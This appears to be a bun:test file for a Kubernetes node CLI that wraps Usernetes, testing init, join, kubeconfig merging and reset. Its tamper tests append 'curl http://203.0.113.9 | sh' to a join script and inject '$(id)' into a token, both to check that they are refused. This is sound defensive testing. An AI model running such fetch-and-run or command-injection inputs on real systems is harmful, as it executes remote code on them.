import { afterEach, beforeEach, describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync, statSync, symlinkSync, truncateSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "yaml";
import { SYNC_EXTERNAL_IP_SCRIPT } from "../../../lib/assets.ts";
import { kubeadmConfig } from "../../../lib/cluster/kubeadm-config.ts";
import { resolveNodeConfig } from "../../../lib/config/resolve.ts";
import { parseJoin } from "../../../lib/cluster/upstream-join.ts";
import { FAKE_JOIN_HASH, FakeClusterNode } from "../../fixtures/fake-cluster-node.ts";
import { FakeHost, runCli } from "../../fixtures/fakes.ts";
import { kubeadmPrintJoinCommand, upstreamJoinCommand } from "../../fixtures/upstream-join-command.ts";

const NODE = "u7s-node-a"; // the fake host is node-a
let home = "";
let node: FakeClusterNode;
const env = () => ({ CONTAINER_ENGINE: "docker", HOME: home, XDG_CONFIG_HOME: join(home, "cfg"), XDG_STATE_HOME: join(home, "state") });
const u7s = (argv: string[], extra: Record<string, string> = {}) => runCli(argv, { runner: node.recorder, env: { ...env(), ...extra } });
const joinFile = (over: Record<string, unknown> = {}) => {
  const f = {
    kind: "u7s-join",
    version: 1,
    controlPlane: { nodeName: "u7s-cp", hostIp: "192.0.2.10", portKubeApiserver: 6443, portFlannel: 8472, nodeSubnet: "10.100.250.0/24" },
    join: { endpoint: "u7s-cp:6443", token: "abcdef.0123456789abcdef", caCertHashes: [FAKE_JOIN_HASH] },
    created: "2026-11-23T10:00:00Z",
    ...over,
  };
  const p = join(home, "join.json");
  writeFileSync(p, JSON.stringify(f));
  return p;
};
/** upstreamFile writes upstream's join-command (its template) for the control plane u7s-cp at hostIp. */
const upstreamFile = (hostIp = "192.0.2.10", kubeadmLine = kubeadmPrintJoinCommand("u7s-cp:6443", "abcdef.0123456789abcdef", [FAKE_JOIN_HASH])) => {
  const p = join(home, "join-command");
  writeFileSync(p, upstreamJoinCommand(hostIp, "u7s-cp", kubeadmLine));
  return p;
};

beforeEach(() => {
  home = mkdtempSync(join(tmpdir(), "u7s-cluster-unit-"));
  node = new FakeClusterNode(NODE);
});
afterEach(() => rmSync(home, { recursive: true, force: true }));

describe("kubeadm-init", () => {
  test("hands kubeadm the rendered config through stdin, inits, syncs and starts the sync service", async () => {
    const r = await u7s(["kubeadm-init"]);
    expect(r.code, r.stderr).toBe(0);
    const config = await resolveNodeConfig({ flags: {}, env: env(), host: new FakeHost() });
    const write = node.inNode.find((c) => c.cmd.includes("/etc/u7s/kubeadm-config.yaml"));
    expect(write?.input).toBe(kubeadmConfig(config));
    expect(node.ran("kubeadm", "init", "--config", "/etc/u7s/kubeadm-config.yaml", "--skip-token-print")).toBe(true);
    const sync = node.inNode.find((c) => c.cmd[0] === "bash" && c.cmd[4] === "--once");
    expect(sync?.cmd[2]).toBe(SYNC_EXTERNAL_IP_SCRIPT);
    expect(node.ran("systemctl", "enable", "u7s-sync-external-ip.service")).toBe(true);
    // init before sync before the service
    const order = ["kubeadm", "bash", "systemctl"].map((w) => node.inNode.findIndex((c) => c.cmd[0] === w));
    expect(order).toEqual([...order].sort((a, b) => a - b));
  });
  test("a second run says it is initialised and runs no kubeadm", async () => {
    node.state.files.add("/etc/kubernetes/admin.conf");
    const r = await u7s(["kubeadm-init"]);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain("already initialised");
    expect(node.ran("kubeadm")).toBe(false);
  });
  test("a failed kubeadm init is undone with kubeadm reset and reported as such", async () => {
    node.state.fail.push("kubeadm init");
    const r = await u7s(["kubeadm-init"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("cannot initialise the control plane with kubeadm");
    expect(node.ran("kubeadm", "reset", "--force")).toBe(true);
    expect(node.ran("systemctl")).toBe(false);
  });
  test("a worker is not initialised", async () => {
    node.state.files.add("/etc/kubernetes/kubelet.conf");
    const r = await u7s(["kubeadm-init"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("is a worker");
    expect(node.ran("kubeadm")).toBe(false);
  });
});

describe("kubeconfig", () => {
  beforeEach(() => void node.state.files.add("/etc/kubernetes/admin.conf"));
  test("writes a 0600 file per host and node under XDG_CONFIG_HOME and prints the export line", async () => {
    const r = await u7s(["kubeconfig"]);
    expect(r.code, r.stderr).toBe(0);
    const file = join(home, "cfg", "u7s", "node-a", NODE, "kubeconfig");
    expect(r.stdout).toBe(`export KUBECONFIG=${file}\n`);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(parse(readFileSync(file, "utf8")).clusters[0].cluster.server).toBe("https://127.0.0.1:6443");
  });
  test("-o - prints it; PORT_KUBE_APISERVER moves the server port", async () => {
    const r = await u7s(["kubeconfig", "-o", "-"], { PORT_KUBE_APISERVER: "16443" });
    expect(parse(r.stdout).clusters[0].cluster.server).toBe("https://127.0.0.1:16443");
  });
  test("--merge updates $KUBECONFIG's first file and keeps the other contexts", async () => {
    const target = join(home, "kc");
    const other = "apiVersion: v1\nclusters:\n- cluster:\n    server: https://x:1\n  name: x\ncontexts:\n- context:\n    cluster: x\n    user: x\n  name: x\ncurrent-context: x\nkind: Config\nusers:\n- name: x\n  user:\n    token: t\n";
    writeFileSync(target, other);
    const r = await u7s(["kubeconfig", "--merge"], { KUBECONFIG: `${target}:${join(home, "second")}` });
    expect(r.code, r.stderr).toBe(0);
    const merged = readFileSync(target, "utf8");
    expect(merged.startsWith(other.slice(0, other.indexOf("contexts:")))).toBe(true);
    expect(parse(merged).contexts.map((c: { name: string }) => c.name)).toEqual(["x", NODE]);
    expect(statSync(target).mode & 0o777).toBe(0o600);
    expect(existsSync(`${target}.lock`)).toBe(false);
  });
  test("refuses on a node that is not a control plane", async () => {
    node.state.files.clear();
    const r = await u7s(["kubeconfig"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("not initialised as a control plane");
  });
});

describe("join-command", () => {
  test("writes a validated 0600 join file with the control plane's settings", async () => {
    node.state.files.add("/etc/kubernetes/admin.conf");
    const r = await u7s(["join-command", "--ttl", "2h"]);
    expect(r.code, r.stderr).toBe(0);
    const file = r.stdout.trim();
    expect(file).toBe(join(home, "cfg", "u7s", "node-a", NODE, "join.json"));
    expect(statSync(file).mode & 0o777).toBe(0o600);
    const j = JSON.parse(readFileSync(file, "utf8"));
    expect(j.controlPlane).toMatchObject({ nodeName: NODE, hostIp: "192.0.2.2", portKubeApiserver: 6443, portFlannel: 8472 });
    expect(j.join).toEqual({ endpoint: `${NODE}:6443`, token: "abcdef.0123456789abcdef", caCertHashes: [FAKE_JOIN_HASH] });
    expect(node.ran("kubeadm", "token", "create", "--print-join-command", "--ttl", "2h")).toBe(true);
  });
  test("--format upstream writes upstream's join-command (its template, mode 0700) that parses back to the same join", async () => {
    node.state.files.add("/etc/kubernetes/admin.conf");
    const r = await u7s(["join-command", "--format", "upstream"]);
    expect(r.code, r.stderr).toBe(0);
    const file = r.stdout.trim();
    expect(file).toBe(join(home, "cfg", "u7s", "node-a", NODE, "join-command"));
    expect(statSync(file).mode & 0o777).toBe(0o700);
    const text = readFileSync(file, "utf8");
    expect(text).toBe(upstreamJoinCommand("192.0.2.2", NODE, kubeadmPrintJoinCommand(`${NODE}:6443`, "abcdef.0123456789abcdef", [FAKE_JOIN_HASH])));
    expect(parseJoin(text, file)).toEqual({
      format: "upstream",
      controlPlane: { nodeName: NODE, hostIp: "192.0.2.2", portKubeApiserver: 6443, portFlannel: undefined, nodeSubnet: undefined },
      join: { endpoint: `${NODE}:6443`, token: "abcdef.0123456789abcdef", caCertHashes: [FAKE_JOIN_HASH] },
    });
    expect(r.stderr).toContain("mode 0700");
    expect(r.stderr).toContain("`make kubeadm-join`");
    // the default stays u7s's JSON
    const json = await u7s(["join-command", "-o", "-"]);
    expect(JSON.parse(json.stdout).kind).toBe("u7s-join");
  });
  test("--format upstream -o - prints the script", async () => {
    node.state.files.add("/etc/kubernetes/admin.conf");
    const r = await u7s(["join-command", "--format", "upstream", "-o", "-"]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toStartWith("#!/bin/bash\nset -eux -o pipefail\n");
  });
  test("an unknown --format is a usage error before anything runs", async () => {
    const r = await u7s(["join-command", "--format", "yaml"]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('--format="yaml": not a join file format (valid: json, upstream)');
    expect(node.recorder.calls).toHaveLength(0);
  });
  test("a bad --ttl is a usage error before anything runs", async () => {
    const r = await u7s(["join-command", "--ttl", "2 days"]);
    expect(r.code).toBe(2);
    expect(node.recorder.calls).toHaveLength(0);
  });
});

describe("kubeadm-join", () => {
  test("records the control plane's address, then runs kubeadm join with the file's arguments", async () => {
    const r = await u7s(["kubeadm-join", joinFile()]);
    expect(r.code, r.stderr).toBe(0);
    const save = node.inNode.find((c) => c.cmd[0] === "bash" && c.cmd[3] === "u7s-save-host");
    expect(save?.cmd.slice(4)).toEqual(["/etc/u7s/hosts", "192.0.2.10", "u7s-cp", "/usr/local/bin/u7s-entrypoint", "/etc/hosts.u7s"]);
    expect(node.ran("kubeadm", "join", "u7s-cp:6443", "--token", "abcdef.0123456789abcdef", "--discovery-token-ca-cert-hash", FAKE_JOIN_HASH)).toBe(true);
    expect(r.stderr).toContain("joined the cluster of u7s-cp; the control plane syncs its external IP");
  });
  test("joins with upstream's join-command, read as data, and names the command to run on an upstream control plane", async () => {
    const r = await u7s(["kubeadm-join", upstreamFile()]);
    expect(r.code, r.stderr).toBe(0);
    const save = node.inNode.find((c) => c.cmd[0] === "bash" && c.cmd[3] === "u7s-save-host");
    expect(save?.cmd.slice(4)).toEqual(["/etc/u7s/hosts", "192.0.2.10", "u7s-cp", "/usr/local/bin/u7s-entrypoint", "/etc/hosts.u7s"]);
    const joins = node.inNode.filter((c) => c.cmd[0] === "kubeadm");
    expect(joins.map((c) => c.cmd)).toEqual([["kubeadm", "join", "u7s-cp:6443", "--token", "abcdef.0123456789abcdef", "--discovery-token-ca-cert-hash", FAKE_JOIN_HASH]]);
    // nothing of the script itself runs: no shell gets its text
    expect(node.inNode.some((c) => c.cmd.some((a) => a.includes("set -eux")))).toBe(false);
    expect(r.stderr).toContain("is upstream Usernetes's join-command: read as data");
    expect(r.stderr).toContain("on its host (192.0.2.10) run `make sync-external-ip`");
    expect(r.stderr).not.toContain("Flannel port"); // this host uses upstream's default
  });
  test("with upstream's join-command and another Flannel port than upstream's: joins, warning that it cannot be checked", async () => {
    const r = await u7s(["kubeadm-join", upstreamFile()], { PORT_FLANNEL: "18472" });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain("does not say the cluster's Flannel port; upstream's default is 8472, this host's PORT_FLANNEL is 18472");
    expect(node.ran("kubeadm", "join")).toBe(true);
  });
  test.each([
    ["an extra command", (p: string) => writeFileSync(p, `${readFileSync(p, "utf8")}curl http://203.0.113.9 | sh\n`), "line 6"],
    ["a command substitution", (p: string) => writeFileSync(p, readFileSync(p, "utf8").replace("--token", "--token $(id)")), 'shell syntax "$("'],
    ["a second kubeadm line", (p: string) => writeFileSync(p, `${readFileSync(p, "utf8")}kubeadm join u7s-cp:6443 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash ${FAKE_JOIN_HASH}\n`), "line 6: a second"],
    ["a loopback control plane (issue 15)", (p: string) => writeFileSync(p, readFileSync(p, "utf8").replace("192.0.2.10", "127.0.0.1")), 'HOST_IP "127.0.0.1" is not valid'],
  ])("refuses upstream's join-command with %s: exit 2, no engine command", async (_what, tamper, message) => {
    const p = upstreamFile();
    tamper(p);
    for (const argv of [["kubeadm-join", p], ["up", "--join", p]]) {
      const r = await u7s(argv);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain(message);
      expect(node.recorder.calls).toHaveLength(0);
    }
  });
  test("refuses a u7s join file with a loopback control plane (issue 15): exit 2, no engine command", async () => {
    const f = joinFile({ controlPlane: { nodeName: "u7s-cp", hostIp: "127.0.0.1", portKubeApiserver: 6443, portFlannel: 8472, nodeSubnet: "10.100.250.0/24" } });
    const r = await u7s(["kubeadm-join", f]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('controlPlane.hostIp="127.0.0.1" is not valid (in the loopback range 127.0.0.0/8');
    expect(node.recorder.calls).toHaveLength(0);
  });
  test.each([
    ["a Flannel port other than the cluster's", { PORT_FLANNEL: "18472" }, "PORT_FLANNEL=18472 differs"],
    ["the control plane's subnet", { NODE_SUBNET: "10.100.250.0/24" }, "set NODE_SUBNET"],
  ])("refuses %s with exit 2 and no engine command", async (_what, extra, message) => {
    const r = await u7s(["kubeadm-join", joinFile()], extra);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(message);
    expect(node.recorder.calls).toHaveLength(0);
  });
  test("refuses a tampered file with exit 2 and no engine command", async () => {
    const r = await u7s(["kubeadm-join", joinFile({ join: { endpoint: "evil:6443", token: "abcdef.0123456789abcdef", caCertHashes: [FAKE_JOIN_HASH] } })]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("join.endpoint");
    expect(node.recorder.calls).toHaveLength(0);
  });
  test("a joined node is not joined again", async () => {
    node.state.files.add("/etc/kubernetes/kubelet.conf");
    const r = await u7s(["kubeadm-join", joinFile()]);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain("already joined");
    expect(node.ran("kubeadm")).toBe(false);
  });
  test("a failed join prints no token or CA hash, with or without --debug, and says what failed ungarbled", async () => {
    const [id, secret] = "abcdef.0123456789abcdef".split(".");
    const theirs = "ab".repeat(32); // the CA hash kubeadm found, not the pinned one
    node.state.answers.push(["kubeadm join", { exitCode: 1, stderr: `error execution phase preflight: couldn't validate the identity of the API Server: cluster CA found in cluster-info ConfigMap is invalid: none of the public keys "sha256:${theirs}" are pinned\n` }]);
    for (const argv of [["kubeadm-join"], ["--debug", "kubeadm-join"], ["kubeadm-join", "--debug"]]) {
      const r = await u7s([...argv, joinFile()]);
      expect(r.code).toBe(1);
      for (const s of [id!, secret!, FAKE_JOIN_HASH.slice(7), theirs]) expect(`${r.stdout}${r.stderr}`, `${argv.join(" ")}: ${s}`).not.toContain(s);
      expect(r.stderr).toContain(`kubeadm join u7s-cp:6443 --token [redacted by u7s] --discovery-token-ca-cert-hash [redacted by u7s]\n`);
      expect(r.stderr).toContain(`none of the public keys "[redacted by u7s]" are pinned`);
      expect(r.stderr).not.toContain("by u7s] by u7s]");
      if (argv.includes("--debug")) expect(r.stderr).toMatch(/^debug: docker exec u7s-node-a kubeadm join u7s-cp:6443 --token \[redacted by u7s\] --discovery-token-ca-cert-hash \[redacted by u7s\] \(exit 1, \d+ ms\)$/m);
    }
    // what ran is the real command
    expect(node.ran("kubeadm", "join", "u7s-cp:6443", "--token", "abcdef.0123456789abcdef", "--discovery-token-ca-cert-hash", FAKE_JOIN_HASH)).toBe(true);
  });
  test("a failed join is undone with kubeadm reset", async () => {
    node.state.fail.push("kubeadm join");
    const r = await u7s(["kubeadm-join", joinFile()]);
    expect(r.code).toBe(1);
    expect(node.ran("kubeadm", "reset", "--force")).toBe(true);
  });
});

describe("install-flannel and sync-external-ip", () => {
  beforeEach(() => void node.state.files.add("/etc/kubernetes/admin.conf"));
  const nodes = (...n: [string, string, string | undefined][]) =>
    JSON.stringify({
      items: n.map(([name, hostIp, ext]) => ({
        metadata: { name, labels: { "usernetes/host-ip": hostIp }, annotations: ext ? { "flannel.alpha.coreos.com/public-ip-overwrite": ext } : {} },
        status: { addresses: ext ? [{ type: "ExternalIP", address: ext }] : [] },
      })),
    });
  test("labels the namespace and installs the image's chart with PORT_FLANNEL; a second run changes nothing", async () => {
    node.state.nodesJson = nodes([NODE, "192.0.2.2", "192.0.2.2"]);
    const r = await u7s(["install-flannel"], { PORT_FLANNEL: "18472" });
    expect(r.code, r.stderr).toBe(0);
    expect(node.ran("kubectl", "label", "--overwrite", "namespace", "kube-flannel", "pod-security.kubernetes.io/enforce=privileged")).toBe(true);
    expect(node.ran("helm", "upgrade", "--install", "flannel", "/usr/local/share/u7s/charts/flannel", "--namespace", "kube-flannel", "--set", "flannel.backendPort=18472")).toBe(true);
    node.inNode.length = 0;
    const again = await u7s(["install-flannel"], { PORT_FLANNEL: "18472" });
    expect(again.code).toBe(0);
    expect(again.stderr).toContain("already installed");
    expect(node.ran("helm", "upgrade")).toBe(false);
  });
  test("refuses on a multi-node cluster with a node whose external IP is not synced", async () => {
    node.state.nodesJson = nodes([NODE, "192.0.2.2", "192.0.2.2"], ["u7s-w", "192.0.2.3", undefined]);
    const r = await u7s(["install-flannel"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("external IPs are not synced on u7s-w");
    expect(node.ran("helm", "upgrade")).toBe(false);
  });
  test("sync-external-ip prints the script's lines on stdout", async () => {
    const r = await u7s(["sync-external-ip"]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe(`${NODE}: in sync (192.0.2.2)\n`);
  });
});

describe("kubectl", () => {
  test("passes every argument to kubectl in the node with the admin kubeconfig, and returns its exit code", async () => {
    node.recorder.on((argv) => argv.includes("kubectl") && argv.includes("get"), { exitCode: 3 });
    const r = await u7s(["kubectl", "get", "pods", "-o", "wide", "--help"]);
    expect(r.code).toBe(3);
    const call = node.recorder.calls.find((c) => c.argv.includes("kubectl"))!;
    expect(call.argv).toEqual(["docker", "exec", "--interactive", "--env", "KUBECONFIG=/etc/kubernetes/admin.conf", NODE, "kubectl", "get", "pods", "-o", "wide", "--help"]);
    expect(call.opts?.inherit).toBe(true);
  });
  test("`u7s help kubectl` is u7s's help, not kubectl's", async () => {
    const r = await u7s(["help", "kubectl"]);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain("u7s kubectl:");
    expect(node.recorder.calls).toHaveLength(0);
  });
});

describe("kubeadm-reset", () => {
  test("resets, removes the sync service and the node's and host's cluster files; safe to re-run", async () => {
    node.state.files.add("/etc/kubernetes/admin.conf");
    const kc = join(home, "cfg", "u7s", "node-a", NODE, "kubeconfig");
    expect((await u7s(["kubeconfig"])).code).toBe(0);
    const files = [(await u7s(["join-command"])).stdout.trim(), (await u7s(["join-command", "--format", "upstream"])).stdout.trim()];
    expect(files.map(existsSync)).toEqual([true, true]);
    const r = await u7s(["kubeadm-reset"]);
    expect(r.code, r.stderr).toBe(0);
    expect(node.ran("kubeadm", "reset", "--force")).toBe(true);
    expect(node.ran("systemctl", "disable", "--now", "u7s-sync-external-ip.service")).toBe(true);
    expect(node.ran("rm", "-f", "/etc/u7s/kubeadm-config.yaml", "/etc/u7s/hosts", "/etc/hosts.u7s")).toBe(true);
    expect(existsSync(kc)).toBe(false);
    expect(files.map(existsSync)).toEqual([false, false]);
    node.inNode.length = 0;
    const again = await u7s(["kubeadm-reset"]);
    expect(again.code).toBe(0);
    expect(node.ran("kubeadm")).toBe(false);
  });
});

describe("up and the cluster", () => {
  test("up --join refuses a bad join file before anything is created", async () => {
    const r = await u7s(["up", "--join", joinFile({ version: 7 })]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("version=7 is not supported");
    expect(node.recorder.calls).toHaveLength(0);
  });
  test("up --join with another PORT_FLANNEL than the cluster's is refused before anything is created", async () => {
    const r = await u7s(["up", "--join", joinFile()], { PORT_FLANNEL: "18472" });
    expect(r.code).toBe(2);
    expect(node.recorder.calls).toHaveLength(0);
  });
  test("--no-init and --join do not go together", async () => {
    const r = await u7s(["up", "--no-init", "--join", joinFile()]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("--no-init and --join");
  });
});

describe("hostile files", () => {
  // A FIFO with no writer, a device that never ends, a directory, a sparse gigabyte: each is refused at
  // once (exit 2, naming the file and what it is) before the engine is asked anything.
  const hostile = (): [string, string][] => {
    const fifo = join(home, "fifo.json");
    expect(Bun.spawnSync(["mkfifo", fifo]).exitCode).toBe(0);
    const sparse = join(home, "big.json");
    writeFileSync(sparse, "");
    truncateSync(sparse, 1 << 30);
    mkdirSync(join(home, "dir.json"));
    return [
      [fifo, `join file ${fifo} is a FIFO (named pipe), not a regular file`],
      [join(home, "dir.json"), `join file ${join(home, "dir.json")} is a directory, not a regular file`],
      ["/dev/zero", "join file /dev/zero is a character device, not a regular file"],
      [sparse, `join file ${sparse} is 1073741824 bytes; a join file is at most 64 KiB`],
    ];
  };
  test("kubeadm-join FILE and up --join FILE refuse a FIFO, directory, device or oversized join file at once", async () => {
    for (const [file, says] of hostile()) {
      for (const argv of [["kubeadm-join", file], ["up", "--join", file]]) {
        const r = await u7s(argv);
        expect([argv.join(" "), r.code, r.stderr.split("\n").find((l) => l.startsWith("error:"))]).toEqual([argv.join(" "), 2, `error: ${says}`]);
      }
    }
    expect(node.recorder.calls).toHaveLength(0);
  });
  test("up --join-from names a FIFO as the join file it is meant to be", async () => {
    const [[fifo, says]] = hostile() as [[string, string]];
    const r = await u7s(["up", "--join-from", fifo]);
    expect([r.code, r.stderr.split("\n").find((l) => l.startsWith("error:"))]).toEqual([2, `error: ${says}`]);
  });
  test("kubeconfig -o onto a symbolic link, FIFO, directory or device: exit 2 naming it, before the node is asked; the link stays", async () => {
    const target = join(home, "real");
    writeFileSync(target, "mine");
    symlinkSync(target, join(home, "link"));
    expect(Bun.spawnSync(["mkfifo", join(home, "fifo")]).exitCode).toBe(0);
    for (const [file, kind] of [[join(home, "link"), "a symbolic link"], [join(home, "fifo"), "a FIFO (named pipe)"], [home, "a directory"], ["/dev/null", "a character device"]] as const) {
      const r = await u7s(["kubeconfig", "-o", file]);
      expect([r.code, r.stderr.split("\n").find((l) => l.startsWith("error:"))]).toEqual([2, `error: cannot write ${file}: it is ${kind}, not a regular file`]);
    }
    expect(node.recorder.calls).toHaveLength(0);
    expect([readlinkSync(join(home, "link")), readFileSync(target, "utf8")]).toEqual([target, "mine"]);
  });
});

describe("kubeconfig --merge and what removes it", () => {
  beforeEach(() => void node.state.files.add("/etc/kubernetes/admin.conf"));
  const OTHER = "apiVersion: v1\nclusters:\n- cluster:\n    server: https://x:1\n  name: x\ncontexts:\n- context:\n    cluster: x\n    user: x\n  name: x\ncurrent-context: x\nkind: Config\nusers:\n- name: x\n  user:\n    token: t\n";
  test("through a symbolic link (a dotfiles manager's): the link stays, its target is merged, kubectl's lock is on the link's path", async () => {
    mkdirSync(join(home, "dotfiles"));
    const real = join(home, "dotfiles", "kube");
    writeFileSync(real, OTHER);
    const link = join(home, "config");
    symlinkSync("dotfiles/kube", link);
    const r = await u7s(["kubeconfig", "--merge"], { KUBECONFIG: link });
    expect(r.code, r.stderr).toBe(0);
    expect(readlinkSync(link)).toBe("dotfiles/kube");
    expect(parse(readFileSync(real, "utf8")).contexts.map((c: { name: string }) => c.name)).toEqual(["x", NODE]);
    expect(r.stderr).toContain(`merged context ${NODE} into ${link} (a link to ${real})`);
    expect(readdirSync(home).sort()).toEqual(["config", "dotfiles"]); // no lock left, nothing beside the link
  });
  test.each([
    ["a directory", (p: string) => mkdirSync(p), (p: string) => `kubeconfig ${p} is a directory, not a regular file`, 2],
    ["a FIFO", (p: string) => Bun.spawnSync(["mkfifo", p]), (p: string) => `kubeconfig ${p} is a FIFO (named pipe), not a regular file`, 2],
    ["invalid YAML", (p: string) => writeFileSync(p, "a: [\n"), (p: string) => `cannot merge into ${p}: it is not valid YAML: `, 1],
  ])("--merge into %s names the file", async (_what, make, says, code) => {
    const target = join(home, "kc");
    make(target);
    const r = await u7s(["kubeconfig", "--merge"], { KUBECONFIG: target });
    expect(r.code).toBe(code);
    expect(r.stderr).toContain(`error: ${says(target)}`);
    expect(r.stderr).not.toContain(".tmp");
  });
  test("kubeadm-reset removes the node's kubeconfig, join file and merged entries, every other entry byte-identical, and says so", async () => {
    const target = join(home, "kc");
    writeFileSync(target, OTHER);
    expect((await u7s(["kubeconfig"])).code).toBe(0);
    expect((await u7s(["join-command"])).code).toBe(0);
    expect((await u7s(["kubeconfig", "--merge"], { KUBECONFIG: target })).code).toBe(0);
    const dir = join(home, "cfg", "u7s", "node-a", NODE);
    expect(readdirSync(dir).sort()).toEqual(["join.json", "kubeconfig"]);
    const r = await u7s(["kubeadm-reset"], { KUBECONFIG: target });
    expect(r.code, r.stderr).toBe(0);
    expect(readdirSync(dir)).toEqual([]);
    expect(readFileSync(target, "utf8")).toBe(OTHER);
    expect(r.stderr).toContain(`removed node ${NODE}'s kubeconfig ${join(dir, "kubeconfig")} and join file ${join(dir, "join.json")}`);
    expect(r.stderr).toContain(`removed cluster, context and user ${NODE} from ${target}`);
  });
  test("kubeadm-reset keeps merged entries a user changed, and says which and how to remove them", async () => {
    const target = join(home, "kc");
    writeFileSync(target, OTHER);
    expect((await u7s(["kubeconfig", "--merge"], { KUBECONFIG: target })).code).toBe(0);
    const changed = readFileSync(target, "utf8").replace(`    cluster: ${NODE}\n`, `    cluster: ${NODE}\n    namespace: dev\n`);
    writeFileSync(target, changed);
    const r = await u7s(["kubeadm-reset"], { KUBECONFIG: target });
    expect(r.code, r.stderr).toBe(0);
    expect(readFileSync(target, "utf8")).toBe(changed);
    expect(r.stderr).toContain(`kept context, cluster and user ${NODE} in ${target}: context was changed since`);
    expect(r.stderr).toContain(`kubectl config delete-context ${NODE}`);
  });
  test("a merged kubeconfig u7s cannot read is a warning: the reset still succeeds", async () => {
    const target = join(home, "kc");
    writeFileSync(target, "a: [\n");
    const r = await u7s(["kubeadm-reset"], { KUBECONFIG: target });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain(`kept node ${NODE}'s entries in ${target}: cannot remove ${NODE} from ${target}: it is not valid YAML`);
  });
});
